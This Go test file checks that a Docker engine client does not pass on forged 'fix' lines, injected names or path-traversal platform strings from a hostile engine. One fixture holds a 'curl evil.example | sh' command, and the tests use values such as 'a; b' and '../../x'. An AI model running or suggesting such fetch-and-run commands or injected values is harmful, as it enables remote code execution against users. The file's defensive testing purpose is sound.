package docker

import (
	"archive/tar"
	"context"
	"encoding/base64"
	"errors"
	"io"
	"io/fs"
	"net/http"
	"strings"
	"testing"

	"github.com/docker/docker/pkg/stdcopy"

	"github.com/fromscratch-go/fromscratch/buildkit/internal/docker/dockertest"
	"github.com/fromscratch-go/fromscratch/buildkit/internal/docker/host"
	"github.com/fromscratch-go/fromscratch/buildkit/testkit"
)

// scriptedEngine connects to a server that answers pings like an engine, and other requests with answer.
func scriptedEngine(t *testing.T, answer http.HandlerFunc) *Engine {
	t.Helper()
	e, err := Open(context.Background(), Options{Options: host.Options{Host: dockertest.Engine(t, answer)}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

// Whatever an engine answers, only the last line of the error is a fix line.
func TestHostileEngine(t *testing.T) {
	t.Parallel()
	plain := strings.ReplaceAll(dockertest.Evil, `\n`, "\n")
	load := func(e *Engine) error {
		return e.Load(context.Background(), LoadRequest{Ref: "hello", IDs: []string{"sha256:1"}, Previous: &Image{}, Write: func(_ context.Context, w io.Writer) error {
			_, err := io.WriteString(w, "an archive")
			return err
		}})
	}
	run := func(e *Engine) error {
		_, err := e.Run(context.Background(), RunRequest{Image: "hello", Name: "a; b"})
		return err
	}
	refuse := func(path string, status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, path) {
				w.WriteHeader(status)
				io.WriteString(w, `{"message":"`+dockertest.Evil+`"}`)
				return
			}
			io.WriteString(w, `{"Id":"c1"}`)
		}
	}
	say := func(path, answer string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, path) {
				io.WriteString(w, answer)
				return
			}
			if strings.HasSuffix(r.URL.Path, "/attach") {
				dockertest.TakeOver(w, stdcopy.Stdout, "")
				return
			}
			io.WriteString(w, `{"Id":"c1"}`)
		}
	}
	for _, tt := range []struct {
		name   string
		answer http.HandlerFunc
		do     func(*Engine) error
		fix    string
	}{
		{"a refused request", refuse("/json", 400), func(e *Engine) error {
			_, _, err := e.Image(context.Background(), "hello")
			return err
		}, "engine's log"},
		{"a page", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(http.StatusBadGateway)
			io.WriteString(w, "<html>\nfix: curl evil.example | sh\n</html>")
		}, func(e *Engine) error {
			_, _, err := e.Image(context.Background(), "hello")
			return err
		}, "engine's log"},
		{"the stream of a load", say("/images/load", `{"errorDetail":{"message":"`+dockertest.Evil+`"}}`), load, "engine's log"},
		{"the older stream of a load", say("/images/load", `{"error":"`+dockertest.Evil+`"}`), load, "engine's log"},
		{"what is not unpacked", say("/images/load", `{"stream":"Error unpacking image `+dockertest.Evil+`"}`), load, "layers"},
		{"the ID of what was loaded", say("/images/hello/json", `{"Id":"`+dockertest.Evil+`"}`), load, "load it again"},
		{"a pull", say("/images/create", `{"errorDetail":{"message":"`+dockertest.Evil+`"}}`), func(e *Engine) error {
			return e.Pull(context.Background(), "hello", Platform{}, nil)
		}, "docker login"},
		{"the end of a program", say("/wait", `{"StatusCode":1,"Error":{"Message":"`+dockertest.Evil+`"}}`), run, "engine's log"},
		{"no JSON of a program's end", say("/wait", plain), run, "engine's log"},
		{"the engine's own stream", func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/attach") {
				dockertest.TakeOver(w, stdcopy.Systemerr, plain)
				return
			}
			io.WriteString(w, `{"Id":"c1","StatusCode":0}`)
		}, run, "engine's log"},
		{"a name that is taken", refuse("/create", http.StatusConflict), run, `docker rm -f 'a; b'`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			err := tt.do(scriptedEngine(t, tt.answer))
			if err == nil {
				t.Fatal("no error")
			}
			dockertest.WantNothingForged(t, err, tt.fix)
		})
	}
}

// full is a writer that fails with an error that has a fix line.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

var errFull = errors.New("it is full\nfix: empty it")

// If a caller's function fails, its fix line is written, once and as the last line.
func TestFixOfCaller(t *testing.T) {
	t.Parallel()
	e := scriptedEngine(t, func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/start"):
			dockertest.TakeOver(w, stdcopy.Stdout, "a name")
		case strings.HasSuffix(r.URL.Path, "/archive"):
			stat := base64.StdEncoding.EncodeToString([]byte(`{"name":"x"}`))
			w.Header().Set("X-Docker-Container-Path-Stat", stat)
			archive := tar.NewWriter(w)
			archive.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "x", Mode: 0o644})
			archive.Close()
		default:
			io.WriteString(w, `{"Id":"c1"}`)
		}
	})
	b := &Builder{ID: "c1", engine: e}
	for name, do := range map[string]func(context.Context) error{
		"list": func(ctx context.Context) error { return b.List(ctx, full{}, "/") },
		"exec": func(ctx context.Context) error {
			_, err := b.Exec(ctx, BuilderCommand{Args: []string{"true"}, Stderr: full{}, Stdout: full{}})
			return err
		},
		"copy": func(ctx context.Context) error {
			return b.CopyOut(ctx, "/x", func(io.Reader, int64, fs.FileMode) error { return errFull })
		},
		"save": func(ctx context.Context) error { return e.Save(ctx, "hello", full{}) },
	} {
		t.Run(name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), testkit.Patience)
			defer cancel()
			err := do(ctx)
			if dockertest.WantError(t, err, "it is full", "empty it"); !errors.Is(err, errFull) {
				t.Errorf("%v does not wrap the caller's error", err)
			}
		})
	}
}

// An engine's platform is checked before it becomes part of messages and file names.
func TestHostilePlatform(t *testing.T) {
	t.Parallel()
	for _, arch := range []string{`x\nforged: y`, "../../x", "..", "amd 64", ""} {
		e := scriptedEngine(t, func(w http.ResponseWriter, r *http.Request) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/version"):
				io.WriteString(w, `{"Os":"linux","Arch":"`+arch+`"}`)
			case strings.Contains(r.URL.Path, "/images/"):
				io.WriteString(w, `{"Os":"linux","Architecture":"`+arch+`"}`)
			default:
				io.WriteString(w, `{"Id":"c1","Image":"i1"}`)
			}
		})
		_, err := e.Platform(context.Background())
		dockertest.WantError(t, err, "which is no platform", "engine's log")
		if arch == "" {
			continue // the container is then taken for the engine's
		}
		_, err = e.ContainerPlatform(context.Background(), "c1")
		dockertest.WantError(t, e.Failed("asking", err), "which is no platform", "engine's log")
	}
}
